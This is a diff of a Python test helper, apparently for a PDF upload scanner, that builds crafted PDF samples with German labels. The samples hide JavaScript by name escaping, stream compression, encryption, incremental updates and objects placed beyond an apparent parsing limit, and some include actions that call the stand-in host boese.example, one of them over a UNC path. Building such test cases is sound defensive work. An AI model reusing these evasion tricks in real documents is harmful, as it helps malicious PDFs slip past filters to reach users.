@@ -18,14 +18,19 @@ def programme() -> list[Upload]:
     asked = b"/OpenAction << /S /GoToR /F (\\\\\\\\boese.example\\\\a.pdf) >>"
     escaped = b"/OpenAction << /S /J#61va#53cript /JS (a) >>"
     hidden = b"/OpenAction 5 0 R"
-    lzw = pdfbau.packed(pdfbau.objects(SKRIPT, catalog=hidden)).replace(b"/First", b"/Fi#72st")
+    disguised = pdfbau.packed(pdfbau.objects(SKRIPT, catalog=hidden)).replace(b"/First", b"/Fi#72st")
+    unseen = [b"<< /A %d >>" % number for number in range(6, 4000)]  # more than are followed
+    far = pdfbau.objects(*unseen, SKRIPT, catalog=b"/A [%s]" % b" ".join(b"%d 0 R" % n for n in range(5, 3999)))
+    event = b"/Resources << >> /AA << /O << /S /URI /URI (https://boese.example) >> >>"
     encoded = [
+        ("JavaScript selten verpackt, weit hinten", pdfbau.packed(far, hexed=True)),
+        ("Adresse beim Blättern", pdfbau.classic(pdfbau.objects(page=event))),
         ("JavaScript beim Öffnen", pdfbau.classic(pdfbau.objects(catalog=b"/OpenAction " + SKRIPT))),
         ("JavaScript in Zahlen geschrieben", pdfbau.classic(pdfbau.objects(catalog=escaped))),
         ("JavaScript im Verzeichnis der Namen", pdfbau.classic(pdfbau.objects(SKRIPT, catalog=names))),
         ("JavaScript in einem Feld", form),
         ("JavaScript verpackt", pdfbau.packed(pdfbau.objects(SKRIPT, catalog=hidden))),
-        ("JavaScript verpackt, Verzeichnis getarnt", lzw),
+        ("JavaScript verpackt, Verzeichnis getarnt", disguised),
         ("JavaScript, auf das nichts zeigt", pdfbau.classic(pdfbau.objects(SKRIPT))),
         ("JavaScript in geschützter Datei", pdfbau.locked(form, user="", owner="x", algorithm="AES-128")),
         ("JavaScript in nachgetragener Fassung", _updated(SKRIPT)),
